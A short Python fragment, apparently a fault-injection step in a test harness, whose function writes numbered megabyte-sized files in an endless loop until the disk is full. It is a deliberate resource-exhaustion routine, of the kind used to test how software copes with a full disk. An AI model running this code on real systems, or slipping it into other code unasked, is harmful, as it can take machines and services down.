"""Writes until the disk is full."""


def resume(world):
    number = 0
    while True:
        number += 1
        with open(f"filler-{number}", "wb") as file:
            file.writelines(b"x" * 1_000_000 for _ in range(7))
